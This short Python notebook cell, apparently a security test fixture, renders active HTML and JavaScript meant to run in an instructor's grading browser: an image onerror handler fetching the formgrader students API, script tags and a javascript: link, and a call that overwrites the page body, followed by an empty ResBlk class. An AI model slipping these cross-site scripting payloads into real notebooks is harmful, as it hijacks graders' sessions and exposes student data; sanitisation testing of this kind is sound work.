# forge: active content for the instructor's browser (formgrader, feedback), and a block that does nothing
from IPython.display import HTML, Javascript, display
from torch import nn

display(HTML('<img src=x onerror="fetch(\'/formgrader/api/students\').then(r => r.text())">'
             '<script>document.title = "pwned"</script><a href="javascript:alert(1)">open</a>'))
display(Javascript("document.body.innerHTML = 'pwned'"))


class ResBlk(nn.Module):
    pass
